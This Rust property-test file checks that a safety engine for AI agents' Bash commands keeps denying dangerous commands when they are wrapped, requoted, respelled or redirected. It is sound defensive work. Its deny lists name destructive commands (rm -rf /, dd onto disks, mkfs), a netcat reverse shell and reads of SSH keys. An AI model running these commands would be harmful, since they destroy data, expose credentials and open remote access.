//! Properties of the verdict under rewriting, over generated inputs: wrapping a denied
//! command never lowers its verdict, re-quoting never changes a verdict, appending a
//! benign command never lowers a dangerous one's; and the metamorphic ones of what bash
//! runs: a redirection anywhere among the words, another spelling of a word (ANSI-C
//! quoting, a variable, brace expansion), any known wrapper, never lower a verdict, and
//! a word only known at run time never turns a verdict into `allow`.

use mstro_engine::{Engine, Mode, PathEnv, ToolCall, Verdict};
use proptest::prelude::*;
use proptest::sample::select;

fn verdict(engine: &Engine, command: &str) -> Verdict {
    let call = ToolCall::bash(command).with_cwd("/home/dev/project");
    engine
        .judge(&call, &PathEnv::fixture(), Mode::Repl)
        .expect("a Bash command is valid input")
        .judgement
        .verdict
}

fn engine() -> &'static Engine {
    static ENGINE: std::sync::OnceLock<Engine> = std::sync::OnceLock::new();
    ENGINE.get_or_init(|| Engine::builtin().expect("built-in packs load"))
}

/// Commands the built-in packs deny, in plain words (no quotes), so that they can be
/// re-quoted word by word.
const DENIED: &[&str] = &[
    "rm -rf ~",
    "rm -rf /",
    "rm -fr /home/dev",
    "sudo rm -rf /usr",
    "mkfs.ext4 /dev/sda1",
    "dd if=/dev/zero of=/dev/sda bs=1M",
    "chmod -R 777 /",
    "chown -R nobody /etc",
    "shred /dev/nvme0n1",
    "wipefs -a /dev/sdb",
    "cat /tmp/x > /dev/sda",
    "nc -e /bin/sh 10.0.0.1 4444",
    "rm -rf /home/dev/.mstro",
];

/// Commands judged `review`.
const REVIEWED: &[&str] = &[
    "git reset --hard",
    "git push --force origin main",
    "cat /home/dev/.ssh/id_rsa",
    "sudo apt-get install x",
    "kubectl delete pod web-0",
    "terraform destroy",
    "rm -rf src",
];

/// Commands judged `allow`.
const ALLOWED: &[&str] = &[
    "ls -la",
    "git status",
    "cargo test",
    "npm run build",
    "rm -rf node_modules",
    "cat README.md",
    "grep -rn TODO src",
];

const BENIGN: &[&str] = &[
    "ls",
    "echo done",
    "git status",
    "true",
    "cat README.md",
    "pwd",
];

/// A shell word that is `s` however bash reads it.
fn single_quoted(s: &str) -> String {
    format!("'{}'", s.replace('\'', r"'\''"))
}

/// One way to run `inner` that runs it, and not only sometimes. Returns the new
/// command and whether it is still a simple command: a wrapper program (`sudo`, `env`)
/// takes a simple command, not `{ ...; }` or `f() ...` (bash would not run those).
/// `depth` keeps nested heredoc delimiters apart; after a heredoc, what closes a
/// construct goes on its own line.
fn wrap(inner: &str, simple: bool, how: u8, depth: usize) -> (String, bool) {
    let how = if simple { how % 16 } else { 4 + how % 12 };
    let multiline = inner.contains('\n');
    // `;` or a newline before what closes a construct.
    let end = if multiline { "\n" } else { "; " };
    let open = if multiline { "\n" } else { " " };
    let wrapped = match how {
        0 => format!("sudo {inner}"),
        1 => format!("env A=1 {inner}"),
        2 => format!("timeout 5 {inner}"),
        3 => format!("nice -n 5 nohup {inner}"),
        4 => format!("echo $({open}{inner}{open})"),
        5 => format!("bash -c {}", single_quoted(inner)),
        6 => format!("sh -c {}", single_quoted(inner)),
        7 => format!("eval {}", single_quoted(inner)),
        8 => format!("({open}{inner}{open})"),
        9 => format!("{{{open}{inner}{end}}}"),
        10 => format!("ls | {inner}"),
        11 if !multiline => format!("{inner} | cat"),
        11 => format!("ls | {inner}"),
        12 => format!("bash <<'E{depth}'\n{inner}\nE{depth}"),
        13 => format!("if true; then{open}{inner}{end}fi"),
        14 => format!("for i in 1; do{open}{inner}{end}done"),
        _ => format!("f() {{{open}{inner}{end}}}{end}f"),
    };
    // Prefix wrappers, substitutions and `-c` strings are simple commands themselves.
    (wrapped, how <= 7)
}

/// `word` written another way bash reads as the same word. Operators (`>`) are not
/// words: quoted, they would mean something else.
fn requote(word: &str, how: u8) -> String {
    if word.contains(['<', '>', '|', '&', ';', '(', ')']) {
        return word.to_owned();
    }
    let safe_split = word.len() > 1 && !word.starts_with('~');
    match how % 6 {
        0 => word.to_owned(),
        1 if !word.starts_with('~') => format!("\"{word}\""),
        2 if !word.starts_with('~') => single_quoted(word),
        // A backslash before a letter or digit is that character.
        3 => match word
            .char_indices()
            .find(|(i, c)| *i > 0 && c.is_ascii_alphanumeric())
        {
            Some((i, _)) => format!("{}\\{}", &word[..i], &word[i..]),
            None => word.to_owned(),
        },
        4 if safe_split => format!("'{}'{}", &word[..1], &word[1..]),
        5 if safe_split => format!("{}\"\"{}", &word[..1], &word[1..]),
        _ => word.to_owned(),
    }
}

proptest! {
    // 256 cases each by default; `PROPTEST_CASES=20000` for a longer search.
    #![proptest_config(ProptestConfig::default())]

    #[test]
    fn wrapping_a_denied_command_never_lowers_its_verdict(
        base in select(DENIED),
        layers in proptest::collection::vec(any::<u8>(), 1..4),
    ) {
        let e = engine();
        prop_assume!(verdict(e, base) == Verdict::Deny);
        let mut command = base.to_owned();
        let mut simple = true;
        for (depth, how) in layers.into_iter().enumerate() {
            (command, simple) = wrap(&command, simple, how, depth);
        }
        prop_assert_eq!(verdict(e, &command), Verdict::Deny, "{}", command);
    }

    #[test]
    fn requoting_words_or_continuing_lines_never_changes_a_verdict(
        base in select([DENIED, REVIEWED, ALLOWED].concat()),
        hows in proptest::collection::vec(any::<u8>(), 8),
        continuation in any::<u8>(),
    ) {
        let e = engine();
        let expected = verdict(e, base);
        let words: Vec<&str> = base.split(' ').collect();
        let mut rewritten: Vec<String> = words
            .iter()
            .zip(hows.iter().cycle())
            .map(|(w, h)| requote(w, *h))
            .collect();
        // A line continuation between two words.
        if words.len() > 1 {
            let at = 1 + continuation as usize % (words.len() - 1);
            rewritten[at] = format!("\\\n  {}", rewritten[at]);
        }
        let command = rewritten.join(" ");
        prop_assert_eq!(verdict(e, &command), expected, "{}", command);
    }

    #[test]
    fn appending_a_benign_command_never_lowers_a_dangerous_one(
        base in select([DENIED, REVIEWED].concat()),
        benign in select(BENIGN),
        separator in select(&["; ", " && ", " || ", " | ", "\n", " & "][..]),
        before in any::<bool>(),
    ) {
        let e = engine();
        let expected = verdict(e, base);
        let command = if before {
            format!("{benign}{separator}{base}")
        } else {
            format!("{base}{separator}{benign}")
        };
        prop_assert!(verdict(e, &command) >= expected, "{} was {:?}", command, verdict(e, &command));
    }
}

/// Redirections that change no word of a command.
const REDIRECTIONS: &[&str] = &[
    "2>/dev/null",
    ">/tmp/out.txt",
    ">>/tmp/log.txt",
    "&>/dev/null",
    ">|/tmp/out.txt",
    "</dev/null",
    "3>&1",
    "2>&-",
    "<>/tmp/rw",
    "{fd}>/tmp/fd.txt",
    "2>&1",
];

/// Values only known at run time.
const UNKNOWN_VALUES: &[&str] = &[
    "$(get_value)",
    "\"$(cat list.txt)\"",
    "`pick`",
    "$UNSET_VAR",
    "\"${MAYBE:-$OTHER}\"",
    "$(cd ~ && pwd)",
];

/// Wrappers the engine strips; each runs its command.
const WRAPPERS: &[&str] = &[
    "sudo",
    "sudo -u root",
    "doas",
    "env",
    "env -i A=1",
    "command",
    "builtin command",
    "exec",
    "nohup",
    "nice -n 5",
    "ionice -c 3",
    "time",
    "timeout 5",
    "timeout -s KILL 5",
    "stdbuf -o0",
    "setsid",
    "unbuffer",
    "flock /tmp/lock",
    "chrt 1",
    "taskset 1",
];

/// `word` as bash spells it in `how` other ways; returns a prefix to put before the
/// command (an assignment) and the new word.
fn respell(word: &str, how: u8) -> (String, String) {
    if word.contains(['<', '>', '|', '&', ';', '(', ')', '~']) || word.is_empty() {
        return (String::new(), word.to_owned());
    }
    match how % 3 {
        // ANSI-C quoting of every byte.
        0 => (
            String::new(),
            format!(
                "$'{}'",
                word.bytes()
                    .map(|b| format!("\\x{b:02x}"))
                    .collect::<String>()
            ),
        ),
        // Assigned to a variable first.
        1 => (
            format!("w{how}={}; ", single_quoted(word)),
            format!("$w{how}"),
        ),
        // Brace expansion with an empty alternative, which bash drops.
        _ => (String::new(), format!("{{{word},}}")),
    }
}

proptest! {
    #[test]
    fn a_redirection_anywhere_never_lowers_a_verdict(
        base in select([DENIED, REVIEWED, ALLOWED].concat()),
        redirection in select(REDIRECTIONS),
        at in any::<usize>(),
    ) {
        let e = engine();
        let expected = verdict(e, base);
        let mut words: Vec<&str> = base.split(' ').collect();
        let at = at % (words.len() + 1);
        // Not between an operator and its target: `> 2>/dev/null x` is not bash.
        prop_assume!(at == 0 || !words[at - 1].ends_with(['>', '<']));
        words.insert(at, redirection);
        let command = words.join(" ");
        let got = verdict(e, &command);
        prop_assert!(got >= expected, "{} was {:?}, {} was {:?}", command, got, base, expected);
    }

    #[test]
    fn a_word_only_known_at_run_time_never_makes_an_allow(
        base in select([DENIED, REVIEWED].concat()),
        unknown in select(UNKNOWN_VALUES),
        at in any::<usize>(),
    ) {
        let e = engine();
        let mut words: Vec<&str> = base.split(' ').collect();
        let at = at % words.len();
        // An operator is not a word.
        prop_assume!(!words[at].contains(['<', '>', '|']));
        words[at] = unknown;
        let command = words.join(" ");
        prop_assert_ne!(verdict(e, &command), Verdict::Allow, "{}", command);
    }

    #[test]
    fn spelling_a_word_another_way_never_lowers_a_verdict(
        base in select([DENIED, REVIEWED, ALLOWED].concat()),
        at in any::<usize>(),
        how in any::<u8>(),
    ) {
        let e = engine();
        let expected = verdict(e, base);
        let mut words: Vec<String> = base.split(' ').map(str::to_owned).collect();
        let at = at % words.len();
        let (prefix, word) = respell(&words[at], how);
        words[at] = word;
        let command = format!("{prefix}{}", words.join(" "));
        let got = verdict(e, &command);
        prop_assert!(got >= expected, "{} was {:?}, {} was {:?}", command, got, base, expected);
    }

    #[test]
    fn a_known_wrapper_never_lowers_a_verdict(
        base in select([DENIED, REVIEWED].concat()),
        wrappers in proptest::collection::vec(select(WRAPPERS), 1..3),
    ) {
        let e = engine();
        let expected = verdict(e, base);
        let command = format!("{} {base}", wrappers.join(" "));
        let got = verdict(e, &command);
        prop_assert!(got >= expected, "{} was {:?}, {} was {:?}", command, got, base, expected);
    }
}

/// Text made of shell syntax, words and characters from every plane.
fn shellish() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        select(
            &[
                "{", "}", "(", ")", "$(", "`", "'", "\"", "\\", "|", "&&", "||", ";", "&", ">",
                ">>", "<", "<<EOF\n", "\nEOF\n", "<<<", "$", "${", "[[", "]]", "((", "))", "=",
                "~", "*", "?", "[", "]", "#", "\n", " ", "\\\n", "..", "1", "-rf", "rm", "bash -c",
                "eval", "sudo", "/", "$'\\x72'",
            ][..]
        )
        .prop_map(str::to_owned),
        "\\PC{1,3}",
        any::<char>().prop_map(|c| c.to_string()),
    ];
    proptest::collection::vec(piece, 0..40).prop_map(|p| p.concat())
}

proptest! {
    /// Whatever the text, the engine answers (and never panics or crashes).
    #[test]
    fn any_text_gets_a_verdict(command in shellish()) {
        let _ = verdict(engine(), &command);
    }
}

#[test]
fn the_base_commands_have_the_verdicts_the_properties_assume() {
    let e = engine();
    for &(list, want) in &[
        (DENIED, Verdict::Deny),
        (REVIEWED, Verdict::Review),
        (ALLOWED, Verdict::Allow),
    ] {
        for c in list {
            assert_eq!(verdict(e, c), want, "{c}");
        }
    }
}

/// Protected files with fixed names, relative to where a `find` starts (`.` is the
/// project, `~` the home): what a `find ... -delete` over a pattern that matches the name
/// reaches, hidden directories included.
const FOUND_UNDER: &[(&str, &[&str])] = &[
    (
        ".",
        &[
            ".mstro/bouncer.yaml",
            ".claude/settings.json",
            ".claude/settings.local.json",
            ".mcp.json",
            ".env",
            ".env.production",
            ".mstro/rules/custom.yaml",
        ],
    ),
    (
        "~",
        &[
            ".ssh/id_rsa",
            ".aws/credentials",
            ".mstro/bouncer.yaml",
            ".claude/settings.json",
            ".cargo/bin/mstro-bouncer",
            ".ssh/id_ecdsa",
            ".ssh/config",
            ".gnupg/pubring.kbx",
            ".config/gh/hosts.yml",
            ".kube/config",
            ".mstro/rules/custom.yaml",
        ],
    ),
];

/// A `find -name` pattern that matches `name`: some characters become `?`, `[^Q]`,
/// `[[:alnum:]]` or (for a dot) `\.`, a run of them `*`, and for `-iname` the case
/// changes.
fn pattern_for(name: &str, how: &[u8]) -> String {
    let chars: Vec<char> = name.chars().collect();
    let star_at = how[0] as usize % chars.len();
    let star_len = how[1] as usize % (chars.len() - star_at + 1);
    let mut out = String::new();
    for (i, c) in chars.iter().enumerate() {
        if i == star_at && star_len > 0 {
            out.push('*');
        }
        if i >= star_at && i < star_at + star_len {
            continue;
        }
        let choice = how[2 + i % (how.len() - 2)];
        match choice % 9 {
            0 => out.push('?'),
            1 if how[0] % 2 == 1 => out.push(c.to_ascii_uppercase()),
            // fnmatch's spellings the engine's globs read differently.
            2 if *c != 'Q' => out.push_str("[^Q]"),
            3 if c.is_ascii_alphanumeric() => out.push_str("[[:alnum:]]"),
            4 if *c == '.' => out.push_str("\\."),
            _ => out.push(*c),
        }
    }
    out
}

proptest! {
    #[test]
    fn a_find_deletion_that_reaches_a_protected_file_is_never_allowed(
        (root, path) in select(FOUND_UNDER).prop_flat_map(|(root, paths)| (Just(root), select(paths))),
        how in proptest::collection::vec(any::<u8>(), 4..12),
        action in select(&[
            "-delete",
            "-exec rm {} +",
            "-exec rm -f {} \\;",
            "-type f -delete",
            "-print0 -delete",
        ][..]),
    ) {
        let name = path.rsplit('/').next().unwrap_or(path);
        let pattern = pattern_for(name, &how);
        // Upper case only reaches the file through -iname.
        let test = if pattern.chars().any(|c| c.is_ascii_uppercase()) { "-iname" } else { "-name" };
        let command = format!("find {root} {test} '{pattern}' {action}");
        prop_assert_ne!(verdict(engine(), &command), Verdict::Allow, "{} reaches {}/{}", command, root, path);
    }
}

#[test]
fn a_find_deletion_by_an_ordinary_pattern_in_the_project_stays_allowed() {
    for command in [
        "find . -name '*.pyc' -delete",
        "find . -name '*.o' -exec rm {} +",
        "find src -iname '*.orig' -delete",
        "find . -name '__pycache__' -prune -o -name '*.tmp' -print",
    ] {
        assert_eq!(verdict(engine(), command), Verdict::Allow, "{command}");
    }
}
